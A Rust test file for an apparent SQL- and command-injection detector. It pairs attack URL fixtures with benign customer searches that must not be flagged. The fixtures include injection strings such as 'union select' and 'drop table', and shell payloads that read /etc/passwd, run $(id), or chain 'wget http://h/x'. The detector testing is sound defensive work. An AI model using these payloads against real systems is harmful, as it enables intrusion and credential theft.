//! Values of attackers and of customers.

use super::*;

fn suspect(event: &Event<'_>) -> bool {
    FIELDS.iter().any(|field| event.get(*field).is_some_and(is_suspect))
}

fn event(target: &'static str) -> Event<'static> {
    let mut event = Event::default();
    event.reset(target.as_bytes());
    event.set_target(target.as_bytes());
    event
}

#[test]
fn attacks_have_words_at_the_layer_where_they_become_readable() {
    for (target, family, layer, word) in [
        ("/i?id=1'or'1'='1", Family::Sqli, 0, "condition"),
        ("/i?id=1%27+or+1=1--", Family::Sqli, 1, "condition"),
        ("/i?id=1%2527+or+1%253d1--", Family::Sqli, 2, "condition"),
        ("/i/1%20and%201=2/x", Family::Sqli, 1, "condition"),
        ("/i?id=-1+union+select+1,2", Family::Sqli, 1, "select"),
        ("/i?id=1;drop+table+cards", Family::Sqli, 1, "statement"),
        ("/i?id=1+order+by+9--", Family::Sqli, 1, "clause"),
        ("/i?id='||version()||'", Family::Sqli, 0, "condition"),
        ("/i?user=admin'--", Family::Sqli, 0, "comment"),
        ("/i?id=1'", Family::Sqli, 0, "quote"),
        ("/i?h=1;id", Family::Cmdi, 0, "chained"),
        ("/i?h=1+%26%26+cat+/etc/passwd", Family::Cmdi, 1, "chained"),
        ("/i?h=1+&&+wget+http://h/x", Family::Cmdi, 1, "chained"),
        ("/i?h=$(id)", Family::Cmdi, 0, "substituted"),
        ("/i?h=`uname+-a`", Family::Cmdi, 1, "substituted"),
        ("/i?h=w'h'oami", Family::Cmdi, 0, "hidden"),
        ("/i?h={cat,/etc/passwd}", Family::Cmdi, 0, "hidden"),
        ("/i?h=;/???/??t", Family::Cmdi, 0, "hidden"),
        ("/i?h=/bin/sh;", Family::Cmdi, 0, "shell"),
        ("/i?h=ls+-la;", Family::Cmdi, 1, "called"),
    ] {
        let event = event(target);
        assert!(suspect(&event), "{target}");
        assert_eq!(words(&event, family, layer), [word], "{target}");
        for below in 0..layer {
            assert!(words(&event, family, below).is_empty(), "{target}: {below}");
        }
    }
}

#[test]
fn customers_have_none() {
    for target in [
        "/search?q=O'Reilly+or+Penguin",
        "/search?q=it's+fine",
        "/search?q=%22rock+'n'+roll%22+and+more",
        "/search?q=select+a+gift+from+our+shop",
        "/search?q=student+union+select+committee",
        "/search?q=7+and+a+half",
        "/search?q=13%22+laptop+case",
        "/search?q=drop+table+lamp",
        "/search?q=salt+%26+pepper",
        "/search?q=cat+and+dog;sort=price",
        "/search?q=ls+mount+(cable)",
        "/list?fields=name|id|price",
        "/list?sort=price;dir=asc",
        "/p;jsessionid=0A1B?id=3",
        "/t?utm_source=news|mail|top&utm_campaign=spring+sale+(2024)",
        "/t?filter={%22brand%22:%22a%22,%22size%22:[1,2]}",
        "/t?data=eyJhIjoxfQ==&sig=a+b/c==",
        "/検索?q=カード+注文",
        "/t?q=%E3%82%AB%E3%83%BC%E3%83%89%27s",
        "/t?title=Rock+%26+Roll+-+Best+of+(1955)",
        "/t?q=5'+x+4'+rug",
        "/t?q=1950+or+1960",
        "/t?q=if+you+like+it+then+call+us",
    ] {
        let event = event(target);
        for family in [Family::Sqli, Family::Cmdi] {
            for layer in 0..=2 {
                assert!(words(&event, family, layer).is_empty(), "{target}: {family:?}");
            }
        }
    }
}

#[test]
fn what_has_no_sign_is_not_read() {
    for target in ["/a/b.html?x=1&y=2", "/%E3%81%82?q=%e3%82%ab", "/a-b_c~d?e=f,g:h@i!"] {
        assert!(!suspect(&event(target)), "{target}");
    }
    for target in ["/?q=%2527", "/?q=%u0027", "/?q=a+b", "/?q=%28", "/?q=%c0%a7", "/?q=%00"] {
        assert!(suspect(&event(target)), "{target}");
    }
}

proptest::proptest! {
    #[test]
    fn any_value_is_read(value in proptest::collection::vec(proptest::num::u8::ANY, 0..80)) {
        let _ = (sqli(&value), cmdi(&value));
    }

    #[test]
    fn any_text_of_signs_is_read(value in "[ '\"`()|;&$<>{}*#/\\\\\\-=,.@%a-f0-3\n]{0,40}") {
        let _ = (sqli(value.as_bytes()), cmdi(value.as_bytes()));
    }
}
